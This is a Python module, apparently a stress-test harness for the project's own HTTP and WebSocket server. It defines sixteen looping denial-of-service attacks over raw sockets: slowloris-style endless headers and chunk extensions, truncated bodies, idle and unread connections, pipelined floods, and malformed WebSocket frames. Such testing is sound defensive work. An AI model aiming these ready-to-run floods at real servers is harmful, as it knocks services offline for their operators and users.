"""What strangers send: each attack runs until it is cancelled, over raw sockets, and bears whatever is answered."""

import asyncio
import os
import socket
from collections.abc import Awaitable, Callable, Mapping
from contextlib import suppress
from urllib.parse import urlsplit

_HEAD = b"POST /v1/auth/login HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
_CHUNKED = _HEAD + b"transfer-encoding: chunked\r\n\r\n2\r\n{}\r\n"
_UPGRADE = (
    b"GET /v1/realtime HTTP/1.1\r\nhost: localhost\r\nconnection: upgrade\r\nupgrade: websocket\r\n"
    b"sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)
_PIECE = 65_536

Attack = Callable[[str], Awaitable[None]]


async def _send(address: str, begin: bytes, piece: bytes = b"", *, reads: bool = True) -> None:
    """Connect, send the beginning, then the piece for ever; connect again when the server ends it."""
    url = urlsplit(address)
    loop = asyncio.get_running_loop()
    while True:
        client = socket.socket()
        client.setblocking(False)
        if not reads:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        with client, suppress(OSError):
            await loop.sock_connect(client, (url.hostname, url.port))
            await loop.sock_sendall(client, begin)
            while piece:
                await loop.sock_sendall(client, piece)
            if not reads:
                await asyncio.Event().wait()
            while await loop.sock_recv(client, _PIECE):
                pass
        await asyncio.sleep(0.05)  # a stranger's own pace, so that the attacker's process has time for the others


def _many(count: int, begin: bytes, piece: bytes = b"", *, reads: bool = True) -> Attack:
    async def attack(address: str) -> None:
        async with asyncio.TaskGroup() as group:
            for _ in range(count):
                group.create_task(_send(address, begin, piece, reads=reads))

    return attack


def _masked(opcode: int, payload: bytes) -> bytes:
    """Return a frame as a client sends it (RFC 6455 section 5.3), masked with zeros."""
    return bytes([0x80 | opcode, 0x80 | len(payload)]) + bytes(4) + payload


ATTACKS: Mapping[str, Attack] = {
    "trailers without end": _many(30, _CHUNKED + b"0\r\n", b"a: b\r\n" * 10_000),
    "a trailer without end": _many(30, _CHUNKED + b"0\r\na: ", b"b" * _PIECE),
    "heads without end": _many(100, b"GET / HTTP/1.1\r\nhost: localhost\r\na: ", b"b" * _PIECE),
    "fields without end": _many(100, b"GET / HTTP/1.1\r\nhost: localhost\r\n", b"a: b\r\n" * 1000),
    "heads that stop at 60 KiB": _many(500, b"GET / HTTP/1.1\r\nhost: localhost\r\na: " + b"b" * 60_000),
    "chunk extensions without end": _many(50, _CHUNKED + b"2;", b"a" * _PIECE),
    "crumbs": _many(20, _CHUNKED, b"1\r\n \r\n" * 10_000),
    "bodies that stop before the end": _many(500, _HEAD + b"content-length: 1000000\r\n\r\n" + b" " * 900_000),
    "connections that say nothing": _many(500, b""),
    "answers nobody reads": _many(500, b"GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n", reads=False),
    "requests far ahead of their answers": _many(50, b"GET /problems/x HTTP/1.1\r\nhost: localhost\r\n\r\n" * 5000),
    "requests that cannot be read": _many(20, os.urandom(512).replace(b"\n", b"") + b"\r\n\r\n"),
    "other protocols": _many(50, _HEAD + b"connection: upgrade\r\nupgrade: h2c\r\ncontent-length: 9\r\n\r\nGET / HTT"),
    "sockets nobody connects": _many(200, _UPGRADE),
    "pings without end": _many(20, _UPGRADE, _masked(9, b"x" * 125) * 100, reads=False),
    "half frames": _many(200, _UPGRADE + bytes([0x81, 0xFE, 0xFF, 0xFF]) + bytes(4) + b"x" * 60_000),
}
